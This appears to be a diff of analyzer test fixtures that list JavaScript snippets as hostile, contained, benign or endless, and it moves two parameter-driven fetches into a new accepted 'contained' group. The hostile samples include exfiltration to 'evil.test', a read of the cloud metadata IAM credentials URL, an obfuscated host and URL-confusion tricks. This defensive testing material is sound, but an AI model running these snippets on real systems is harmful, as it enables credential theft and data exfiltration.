@@ -7,7 +7,7 @@ from __future__ import annotations
 
 from typing import Final
 
-__all__ = ["BLIND_BENIGN", "BLIND_ENDLESS", "BLIND_HOSTILE"]
+__all__ = ["BLIND_BENIGN", "BLIND_CONTAINED", "BLIND_ENDLESS", "BLIND_HOSTILE"]
 
 BLIND_BENIGN: Final[tuple[str, ...]] = (
     # Retries with a growing pause.
@@ -607,11 +607,9 @@ BLIND_HOSTILE: Final[tuple[str, ...]] = (
     # Other hosts.
     r"""export default async (params, error) => { await fetch("https://evil.test/?e=" + encodeURIComponent(JSON.stringify(error))); }""",
     r"""export default async () => (await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")).text()""",
-    r"""export default async (params) => { const url = params.url; return (await fetch(url)).status; }""",
     r"""export default async () => { const f = fetch; await f("https://evil" + ".test/steal", { method: "POST", body: "x" }); }""",
     r"""export default async () => { await fetch("https://api.example.com@evil.test/"); }""",
     r"""export default async () => { await fetch("https://api.example.com.evil.test/"); }""",
-    r"""export default async (params) => { await fetch(`https://api.example.com${params.suffix}/x`); }""",
     r"""export default async () => { const host = atob("ZXZpbC50ZXN0"); await fetch(`https://${host}/`); }""",
     r"""export default () => { const s = new WebSocket("wss://evil.test/"); s.onopen = () => s.send("x"); }""",
     r"""export default () => new EventSource("http://127.0.0.1:8000/stream").close()""",
@@ -647,6 +645,12 @@ BLIND_HOSTILE: Final[tuple[str, ...]] = (
     r"""export default () => prompt("give me the password")""",
     r"""export default () => { const s = Symbol.for("Deno.internal"); return globalThis[s]; }""",
     r"""export default () => { queueMicrotask(() => { Deno.exit(0); }); }""",
+)
+
+#: Hostile as well, but accepted: where a parameter leads is seen when the script runs.
+BLIND_CONTAINED: Final[tuple[str, ...]] = (
+    r"""export default async (params) => { const url = params.url; return (await fetch(url)).status; }""",
+    r"""export default async (params) => { await fetch(`https://api.example.com${params.suffix}/x`); }""",
 )
 
 #: Nothing but endless: an analysis need not refuse them, since a run ends at its limits.
